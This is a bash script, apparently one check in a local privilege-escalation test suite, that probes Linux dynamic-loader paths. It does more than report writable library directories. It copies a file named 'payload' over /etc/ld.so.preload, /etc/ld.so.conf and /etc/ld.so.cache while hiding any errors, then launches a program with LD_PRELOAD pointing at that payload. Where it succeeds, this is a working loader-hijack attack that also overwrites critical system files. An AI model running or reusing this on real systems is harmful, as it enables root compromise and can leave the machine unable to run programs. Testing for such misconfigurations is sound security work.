#!/bin/bash
# Shared objects on the loader's path.
. "$(dirname "$0")/lib/attack.sh"

for directory in $(sed -n 's|^/|/|p' /etc/ld.so.conf.d/*.conf) /usr/local/lib /usr/lib /lib64 /etc/ld.so.conf.d; do
  [ -e "$directory" ] && [ -w "$directory" ] && succeeded "root's programs load what anybody puts into $directory"
done
for file in /etc/ld.so.preload /etc/ld.so.conf /etc/ld.so.cache; do
  cp payload "$file" 2>/dev/null && succeeded "$file can be written"
done
printf '%s\n' "$work" >ld.so.conf
LD_LIBRARY_PATH=$work LD_PRELOAD=$work/payload attempt libpopt0
verdict
